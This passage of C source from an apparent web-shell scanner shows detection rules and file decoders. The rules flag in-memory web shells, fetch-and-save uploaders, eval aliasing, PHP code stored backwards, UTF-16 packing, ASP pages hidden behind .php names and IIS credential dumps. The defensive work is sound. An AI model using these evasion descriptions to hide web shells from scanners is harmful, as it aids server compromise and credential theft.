  else if (c->dyn_line && !others && c->longest >= 1024)
    lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, c->dyn_line,
                  "%s runs code built at run time (line %u) in a page carrying a %zu-byte literal", c->dyn_display,
                  c->dyn_line, c->longest);
  if (c->register_line)
    lang_add_detection(c, "shellsift.lang.code-load", "webshell", 80, c->register_line,
                  "%s adds a component to the running server at run time (line %u): an in-memory web shell "
                  "outlives this page", c->register_display, c->register_line);
  if (c->script_write_line && c->fetch_fed_line) /* the request names what the page downloads and saves */
    lang_add_detection(c, "shellsift.lang.uploader", "uploader", 75, c->script_write_line,
                  "%s saves content fetched over HTTP from a URL the request chooses (line %u) as a script page "
                  "(line %u)", c->script_write_display, c->fetch_fed_line, c->script_write_line);
  else if (c->script_write_line && (c->caps.seen & CAP_FETCH)) /* wherever the two are in the page */
    lang_add_detection(c, "shellsift.lang.uploader", "uploader", 60, c->script_write_line,
                  "%s saves content fetched over HTTP (%s, line %u) as a script page (line %u)",
                  c->script_write_display, c->caps.what[lang_cap_index(CAP_FETCH)],
                  c->caps.line[lang_cap_index(CAP_FETCH)], c->script_write_line);
  if (c->alias_line && c->caps.request && !others)
    lang_add_detection(c, "shellsift.lang.code-exec", "webshell", 65, c->alias_line,
                  "eval or the Function constructor is taken as a value (line %u) and called under another name in a page that reads request "
                  "input (line %u)", c->alias_line, c->caps.request);
}

/* Is there a <script ... runat="server"> tag in a configuration file? */
static int config_script(const unsigned char *buf, size_t len) {
  static const char *const tags[] = {"<script", "<SCRIPT", "<Script"};
  for (size_t k = 0; k < sizeof tags / sizeof tags[0]; k++) {
    const unsigned char *p = memmem(buf, len, tags[k], 7);
    if (!p) continue;
    size_t left = len - (size_t)(p - buf);
    const unsigned char *gt = memchr(p, '>', left < 512 ? left : 512);
    if (gt && (memmem(p, (size_t)(gt - p), "runat", 5) || memmem(p, (size_t)(gt - p), "RUNAT", 5) ||
               memmem(p, (size_t)(gt - p), "Runat", 5)))
      return 1;
  }
  return 0;
}

/* A page saved as UTF-16 (a byte-order mark, and the high byte of most
 * characters zero): its text in UTF-8, so that a packed shell saved so is
 * read like any other, and a Script Encoder block whose comments are
 * Chinese keeps its positions (a character outside ASCII takes none);
 * NULL if it is not one. */
static unsigned char *from_utf16(const unsigned char *buf, size_t len, size_t *outlen) {
  if (len < 8 || !((buf[0] == 0xff && buf[1] == 0xfe) || (buf[0] == 0xfe && buf[1] == 0xff))) return NULL;
  int le = buf[0] == 0xff;
  size_t units = (len - 2) / 2, probe = units < 2048 ? units : 2048, zero = 0;
  for (size_t k = 0; k < probe; k++) zero += buf[2 + 2 * k + (le ? 1 : 0)] == 0;
  /* most units of a page's markup and code are ASCII; its comments and strings may be Chinese */
  if (zero * 2 < probe) return NULL;
  unsigned char *out = xmalloc(3 * units + 1);
  size_t o = 0;
  for (size_t k = 0; k < units; k++) {
    unsigned u = (unsigned)buf[2 + 2 * k + (le ? 0 : 1)] | (unsigned)buf[2 + 2 * k + (le ? 1 : 0)] << 8;
    if (u >= 0xd800 && u < 0xdc00 && k + 1 < units) { /* a surrogate pair: one character of four bytes */
      unsigned v = (unsigned)buf[4 + 2 * k + (le ? 0 : 1)] | (unsigned)buf[4 + 2 * k + (le ? 1 : 0)] << 8;
      if (v >= 0xdc00 && v < 0xe000) {
        unsigned cp = 0x10000 + ((u - 0xd800) << 10) + (v - 0xdc00);
        out[o++] = (unsigned char)(0xf0 | cp >> 18), out[o++] = (unsigned char)(0x80 | (cp >> 12 & 0x3f));
        out[o++] = (unsigned char)(0x80 | (cp >> 6 & 0x3f)), out[o++] = (unsigned char)(0x80 | (cp & 0x3f));
        k++;
        continue;
      }
    }
    if (u < 0x80) {
      out[o++] = (unsigned char)u;
    } else if (u < 0x800) {
      out[o++] = (unsigned char)(0xc0 | u >> 6), out[o++] = (unsigned char)(0x80 | (u & 0x3f));
    } else {
      out[o++] = (unsigned char)(0xe0 | u >> 12), out[o++] = (unsigned char)(0x80 | (u >> 6 & 0x3f));
      out[o++] = (unsigned char)(0x80 | (u & 0x3f));
    }
  }
  out[o] = '\0';
  *outlen = o;
  return out;
}

/* A file saved with old Mac line ends (a CR alone): a copy with each lone
 * CR made LF, which PHP, VBScript, Java and C# all read as a line end, so
 * that a // or ' comment ends where the language ends it; NULL if the
 * file has none.  Lengths and offsets stay the same. */
static unsigned char *from_bare_cr(const unsigned char *buf, size_t len) {
  const unsigned char *p = buf, *end = buf + len;
  while ((p = memchr(p, '\r', (size_t)(end - p))) != NULL && p + 1 < end && p[1] == '\n') p += 2;
  if (!p) return NULL;
  unsigned char *out = xmalloc(len + 1);
  memcpy(out, buf, len);
  out[len] = '\0';
  for (size_t k = (size_t)(p - buf); k < len; k++)
    if (out[k] == '\r' && (k + 1 == len || out[k + 1] != '\n')) out[k] = '\n';
  return out;
}

/* PHP code stored backwards (a loader runs eval(strrev(file_get_contents(...)))):
 * a file with no PHP tag whose text holds PHP's keywords reversed is read
 * turned round, as code; NULL if it is not one. */
static unsigned char *from_reversed(const unsigned char *buf, size_t len, size_t *outlen) {
  static const char *const words[] = {"noitcnuf", "nruter", "ohce", "(fi", "esle", "TSOP_$", "TEG_$", "yarra"};
  if (len < 64 || memmem(buf, len, "<?php", 5) || memmem(buf, len, "<?PHP", 5) || memmem(buf, len, "<?=", 3) ||
      memmem(buf, len, "<? ", 3) || memmem(buf, len, "<?\n", 3))
    return NULL;
  unsigned hits = 0;
  for (size_t k = 0; k < sizeof words / sizeof words[0]; k++)
    if (memmem(buf, len, words[k], strlen(words[k]))) hits++;
  if (hits < 5) return NULL;
  unsigned char *out = xmalloc(len + 7);
  memcpy(out, "<?php\n", 6);
  for (size_t k = 0; k < len; k++) out[6 + k] = buf[len - 1 - k];
  out[6 + len] = '\0';
  *outlen = len + 6;
  return out;
}

/* A page saved under a .php (or .inc) name that holds no PHP but an ASP or ASP.NET
 * page directive (<%@ Page Language="C#" %>, <%@ LANGUAGE = VBScript.Encode %>)
 * is read as the page it is: such a copy runs wherever the server maps the
 * name to that engine, and it is a web shell there. */
static const char *page_behind_php_name(const unsigned char *buf, size_t len) {
  if (lang_php_code_start(buf, len) < len) return "PHP";
  const unsigned char *d = memmem(buf, len, "<%@", 3);
  /* no directive: an include (.inc is PHP's, classic ASP's and JSP's
   * include name) of <% %> code is read in the language that includes it,
   * Java when it speaks JSP's objects, else VBScript */
  if (!d && memmem(buf, len, "<%", 2)) {
    static const char *const java[] = {"request.getParameter", "out.print", "getRuntime()", "java.", "pageContext"};
    for (size_t k = 0; k < sizeof java / sizeof java[0]; k++)
      if (memmem(buf, len, java[k], strlen(java[k]))) return "JSP";
    return "ASP";
  }
  if (!d) return "PHP";
  size_t rest = (size_t)(buf + len - d) < 200 ? (size_t)(buf + len - d) : 200;
  const unsigned char *end = memmem(d, rest, "%>", 2);
  if (!end) return "PHP";
  char dir[200];
  lang_lower_copy(dir, sizeof dir, (const char *)d, (size_t)(end - d));
  if (!strstr(dir, "language")) return "PHP";
  return strstr(dir, "page") || strstr(dir, "c#") || strstr(dir, "csharp") || strstr(dir, "control") ? "ASPX" : "ASP";
}

void lang_analyze(lang_ctx *c, const unsigned char *buf, size_t len, const char *filetype, lang_result *out) {
  memset(out, 0, sizeof *out);
  decode_budget budget = {.remaining = c->lim.max_decoded,
                          .deadline = c->lim.max_ms ? lang_now() + c->lim.max_ms / 1000.0 : 0};
  reset_file(c);
  c->budget = &budget;
  c->res = out;
  c->level = 0;
  c->prefix = NULL;
  unsigned char *narrow = NULL; /* a page (or a web.config) saved as UTF-16: the text it holds */
  size_t narrow_len = 0;
  if (filetype && lang_wanted(filetype) && (narrow = from_utf16(buf, len, &narrow_len)) != NULL)
    buf = narrow, len = narrow_len;
  /* a web.config that carries server code (a handler maps .config to the
   * script engine) is a page; one without is configuration */
  /* a web.config served as a page (a handler mapping to asp.dll): its <% %> or <script runat=server> blocks */
  if (filetype && strcmp(filetype, "CONFIG") == 0)
    filetype = memmem(buf, len, "<%", 2) || config_script(buf, len) ? "ASP" : NULL;
  if (filetype && strcmp(filetype, "PHP") == 0 && !narrow && (narrow = from_reversed(buf, len, &narrow_len)) != NULL) {
    buf = narrow, len = narrow_len;
    c->prefix = "code stored backwards, read turned round (lines counted from its end): ";
  }
  if (filetype && strcmp(filetype, "PHP") == 0) filetype = page_behind_php_name(buf, len);
  /* an ASP page IIS decodes before running it is read decoded too */
  unsigned char *unpacked = NULL;
  size_t unpacked_len = 0;
  if (filetype && (strcmp(filetype, "ASP") == 0 || strcmp(filetype, "ASPX") == 0) &&
      lang_asp_unpack(buf, len, &unpacked, &unpacked_len))
    buf = unpacked, len = unpacked_len;
  else if (filetype && strcmp(filetype, "JSP") == 0 && lang_jspx_unpack(buf, len, &unpacked, &unpacked_len))
    buf = unpacked, len = unpacked_len; /* a JSP document: its code as the container compiles it */
  unsigned char *unescaped = NULL; /* ... and with its \uXXXX escapes undone, as javac and csc read them */
  size_t unescaped_len = 0;
  /* C# or VB.NET source that ASP.NET compiles itself (App_Code, a page's
   * code file): no markup, the whole file is code */
  int vbnet = filetype && strcmp(filetype, "VBNET") == 0;
  int source = vbnet || (filetype && strcmp(filetype, "CSHARP") == 0);
  if (filetype && (strcmp(filetype, "JSP") == 0 || strcmp(filetype, "ASPX") == 0 || (source && !vbnet)) &&
      lang_unicode_escapes(buf, len, &unescaped, &unescaped_len))
    buf = unescaped, len = unescaped_len;
  /* an ASP.NET page saved as .asp still has its server controls */
  int asp = filetype && (strcmp(filetype, "ASPX") == 0 || strcmp(filetype, "ASP") == 0);
  int controls = asp && lang_aspx_controls(c, buf, len);
  int objects = asp && lang_asp_objects(c, buf, len);
  if (controls) c->caps.request = 1;
  int cfml = filetype && strcmp(filetype, "CFM") == 0; /* rare enough to read whole */
#ifdef SS_LANG_TRACE
  int pf = 1; /* the trace build analyses every file: what would the prefilter lose? */
  (void)objects;
#else
  int pf = lang_wanted(filetype) && (controls || objects || cfml || lang_prefilter(buf, len, strcmp(filetype, "PHP") == 0));
#endif
  unsigned char *lf = NULL;
  if (lang_wanted(filetype) && pf) {
    int php = strcmp(filetype, "PHP") == 0, jsp = strcmp(filetype, "JSP") == 0;
    if ((lf = from_bare_cr(buf, len)) != NULL) buf = lf;
    c->fold_base = buf;
    if (jsp) lang_jsp_tag_inputs(c, buf, len);
    run(c, buf, len, filetype, source || (php && php_fragment(buf, len)), php ? SYN_PHP : cfml ? SYN_CFML : strcmp(filetype, "ASP") == 0 || vbnet ? SYN_VB
                                                : strcmp(filetype, "JSP") == 0 ? SYN_JAVA : SYN_CSHARP);
    if (jsp) lang_jsp_uncalled_runners(c, buf, len);
    lang_php_caps_judge(c, buf, len);
    lang_php_tools_judge(c, buf, len);
    if (php) lang_php_attack_judge(c, buf, len);
    if (php) lang_php_hidden_judge(c);
    if (php) lang_php_ext_judge(c);
    if (php) lang_php_objprop_judge(c);
    if (php) lang_php_mailer_judge(c);
    out->php_read = php;
    c->fold_out_len = lang_folded_build(c, buf, len);
  }
  /* a page saved as UTF-16 or stored backwards: the content rules read the text it holds */
  if (narrow) c->fold_out_len = lang_folded_whole(c, buf, len);
  page_verdicts(c);
  char kit[LANG_DESC_MAX];
  unsigned kit_line;
  int kit_score = lang_caps_verdict(&c->caps, kit, sizeof kit, &kit_line);
  if (kit_score) lang_add_detection(c, "shellsift.lang.kit", "webshell", kit_score, kit_line, "%s", kit);
  else if ((kit_score = lang_caps_registry(&c->caps, kit, sizeof kit, &kit_line)) != 0)
    lang_add_detection(c, "shellsift.lang.registry-walker", "hacktool", kit_score, kit_line, "%s", kit);
  if (c->caps.iis_cred_line)
    lang_add_detection(c, "shellsift.lang.credential-dump", "hacktool", 45, c->caps.iis_cred_line,
                       "IIS credential dump: it opens the IIS metabase through ADSI (IIS://) and reads %s, the "
                       "password IIS stores for a site's anonymous or application user, in clear (line %u; MITRE "
                       "ATT&CK T1552, T1087)",
                       c->caps.iis_cred_what, c->caps.iis_cred_line);
  int tech_score = lang_technique_verdict(c, kit, sizeof kit, &kit_line);
  if (tech_score)
    lang_add_detection(c, "shellsift.lang.privilege-escalation", "hacktool", tech_score, kit_line, "%s", kit);
  if (budget.exhausted) {
    out->limited = 1;
    snprintf(out->limit_why, sizeof out->limit_why, "%s", budget.why ? budget.why : "limit");
  }
  c->budget = NULL;
  c->res = NULL;
  c->buf = NULL;
  free(unpacked);
  free(unescaped);
  free(narrow);
  free(lf);
}

const unsigned char *lang_folded_text(const lang_ctx *c, size_t *len) {
  *len = c->fold_out_len;
  return c->fold_out_len ? (const unsigned char *)c->fold_out : NULL;
}

void lang_get_stats(const lang_ctx *c, const unsigned char *buf, size_t len, lang_stats *st) {
  lang_stats_compute(st, buf, len, c->longest, c->blob_bytes, c->builders);
}
